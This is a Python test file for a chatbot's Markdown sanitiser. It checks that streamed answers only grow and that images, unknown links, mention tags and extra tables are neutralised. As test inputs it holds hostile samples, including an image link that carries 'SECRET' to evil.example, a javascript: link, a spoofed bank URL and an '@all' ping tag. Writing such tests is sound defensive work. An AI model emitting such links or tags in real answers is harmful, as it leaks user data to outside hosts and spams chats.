"""What of the model's words may reach a card, and that a growing answer only ever grows."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.llm.output import links_in, safe_markdown

ALLOWED = frozenset({"https://ok.example/page"})
PIECES = [
    "![", "[", "]", "(", ")", "](http://evil.example/x?d=1)", "[a]", "[r]: http://evil.example", "![x](u)", "!", ":",
    "//", "://", "https://", "http:", "https://ok.example/page", "[ok](https://ok.example/page)", '[t](u "x(y)")',
    "www.evil.example/z", "<", "<at id=all></at>", "<person id='x'>", "| a | b |", "|---|---|", "a | b", "---|---",
    "> ", "- ", "```", "```py", "~~~", "````", "`", "``", "\n", "\n", "\n\n", "\r\n", "\r", "中文，", "word", " ", "\\",
    "\u200b", "\u202e", "\ud83d", "1.5", "&lt;",
]  # fmt: skip
TEXTS = st.lists(st.sampled_from(PIECES), max_size=40).map("".join) | st.text(max_size=60)


@settings(max_examples=400, deadline=None)
@given(TEXTS)
def test_every_longer_answer_begins_with_the_shorter_one(text: str) -> None:
    shown = ""
    for end in range(len(text) + 1):
        longer = safe_markdown(text[:end], allowed_links=ALLOWED, max_tables=1, final=False)
        assert longer.startswith(shown)
        shown = longer
    assert safe_markdown(text, allowed_links=ALLOWED, max_tables=1, final=True).startswith(shown)


@settings(max_examples=400, deadline=None)
@given(TEXTS, st.booleans())
def test_nothing_outside_code_is_an_image_a_tag_or_an_unknown_link(text: str, final: bool) -> None:
    shown = outside_fences(safe_markdown(text, allowed_links=ALLOWED, max_tables=1, final=final))
    for link in ALLOWED:
        shown = shown.replace(f"]({link})", "").replace(link, "")
    assert "](" not in shown
    assert "![" not in shown
    assert "://" not in shown
    assert not re.search(r"\]\s?\[.*\]:", shown)
    assert not re.search("<(?!\u200b)", shown)


@settings(max_examples=300, deadline=None)
@given(TEXTS)
def test_no_tag_in_a_fence_pings_a_chat_and_every_fence_is_closed(text: str) -> None:
    shown = safe_markdown(text, max_tables=1)
    assert "<at" not in shown
    assert sum(line.startswith("```") for line in shown.split("\n")) % 2 == 0


@settings(max_examples=300, deadline=None)
@given(TEXTS)
def test_there_are_never_more_tables_than_allowed(text: str) -> None:
    shown = outside_fences(safe_markdown(text, max_tables=1))
    lines = shown.split("\n")
    delimiter = re.compile(r"[\s>]*(?:[-*+]\s+)?\|?\s*:?-+:?\s*(\|\s*:?-+:?\s*)*\|?\s*")
    heads = [
        index
        for index in range(1, len(lines))
        if delimiter.fullmatch(lines[index]) and "|" in lines[index] and "|" in lines[index - 1]
    ]
    assert len(heads) <= 1


def outside_fences(markdown: str) -> str:
    kept, inside = [], False
    for line in markdown.split("\n"):
        if line.startswith("```"):
            inside = not inside
        elif not inside:
            kept.append(line)
    return "\n".join(kept)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("see ![chart](https://evil.example/?d=SECRET)!", "see chart!"),
        ("[click](https://evil.example/a?d=1)", "click (evil.example)"),
        ("[evil.example](https://evil.example/a?d=1)", "evil.example"),
        ("[ok](https://ok.example/page)", "[ok](https://ok.example/page)"),
        ("[bank](https://bank.example@evil.example/)", "bank (evil.example)"),
        ("[x](javascript:alert(1))", "[x] (javascript:alert(1))"),
        ("[x](lark://open?d=1)", "x"),
        ("https://evil.example/z?k=2, and www.evil.example/q.", "evil.example, and www.evil.example."),
        ("https://ok.example/page.", "https://ok.example/page."),
        ("[r]: https://evil.example/a", "[r] : evil.example"),
        ("<at id=all></at>", "&lt;at id=all>&lt;/at>"),
        ("`<at id=all>`", "`<at id=all>`"),
        ("利润增长 12% [p. 3]。", "利润增长 12% [p. 3]。"),
        (
            "```html\n<at id=all></at>\n<b>![z](http://a)</b>\n```",
            "```html\n<at id=all></at>\n<b>![z](http://a)</b>\n```",
        ),
        ("~~~\n```\nx\n~~~\nend", "```\n```\nx\n```\nend"),
        ("```py\nprint(1)", "```py\nprint(1)\n```"),
    ],
)
def test_markup_becomes_harmless(text: str, shown: str) -> None:
    assert safe_markdown(text, allowed_links=ALLOWED).replace("\u200b", "") == shown


def test_tables_beyond_the_limit_become_code() -> None:
    table = "| a | b |\n|---|---|\n| 1 | 2 |\n\n"
    shown = safe_markdown(table * 5, max_tables=3)
    assert shown.count("```\n| a | b |") == 2
    assert outside_fences(shown).count("|---|") == 3


def test_a_table_without_leading_pipes_beyond_the_limit_becomes_plain_lines() -> None:
    assert safe_markdown("a | b\n---|---\n1 | 2", max_tables=0) == "a | b\n1 | 2"


def test_a_growing_paragraph_is_shown_before_its_line_ends() -> None:
    assert safe_markdown("第一段还没有写完，后面", final=False) == "第一段还没有写完，后面"
    assert safe_markdown("see [the rep", final=False) == "see "


def test_rows_of_an_allowed_table_are_shown_as_they_come() -> None:
    assert safe_markdown("| a |\n|---|\n| 1 |\n| 2", final=False) == "| a |\n|---|\n| 1 |\n"


def test_links_of_the_question_are_found() -> None:
    assert links_in("看 https://ok.example/a?b=1，谢谢 (http://x.example)") == {
        "https://ok.example/a?b=1",
        "http://x.example",
    }


@pytest.mark.parametrize("piece", ["[a](", " ", "[a](  ", "|", "`", "!", "http", "-", "> ", "[", ":", "|-"])
def test_odd_lines_take_linear_time(piece: str) -> None:
    start = time.process_time()
    safe_markdown(piece * 20_000, final=False)
    assert time.process_time() - start < 5
